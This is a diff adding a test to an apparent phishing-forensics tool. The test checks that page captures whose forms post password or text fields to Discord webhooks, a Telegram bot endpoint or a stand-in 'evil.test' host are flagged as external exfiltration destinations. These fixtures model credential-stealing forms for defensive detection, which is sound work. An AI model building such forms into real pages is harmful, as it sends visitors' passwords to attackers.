@@ -62,3 +62,15 @@ def test_nodes_of_pages(spark):
     assert text.startswith("acme bank /in user pass go") and "cdn.test" in text
     paths = {r["path"] for r in f.tag_paths(df, "id", "html").filter("page_id = 1").collect()}
     assert "/html/body/form" in paths and "/html/body/form/input" in paths and not any("title/" in p for p in paths)
+
+
+def test_forms_that_go_to_chat_hooks(spark, tmp_path):
+    from webwarden.plans.forensics import outbound_requests
+
+    form = lambda action, kind: f'<html><body><form action="{action}" method="post"><input type="{kind}" name="x"></form></body></html>'
+    hooks = ["https://discord.com/api/webhooks/1/a", "//api.telegram.org/bot1:a/sendMessage"]
+    pages = [(1, form(hooks[0], "text")), (2, form(hooks[1], "password")), (3, form("/in/side", "password")), (4, form("https://evil.test/p", "password")), (5, form("https://discord.com/other", "text"))]
+    spark.createDataFrame([(i, "https://a.test/x", m, "") for i, m in pages], "capture_id bigint, url string, dom_html string, matched_brand string").write.parquet(f"{tmp_path}/page_captures.parquet")
+    spark.createDataFrame([("acme", ["acme.test"])], "brand_id string, canonical_domains array<string>").write.parquet(f"{tmp_path}/protected_brands.parquet")
+    got = {r["capture_id"]: (r["protocol"], r["destination"], r["is_external"]) for r in outbound_requests(spark, str(tmp_path)).collect()}
+    assert got == {1: ("chat_webhook", hooks[0], True), 2: ("chat_bot", "https:" + hooks[1], True), 3: ("http_post", "https://a.test", False), 4: ("http_post", "https://evil.test", True)}
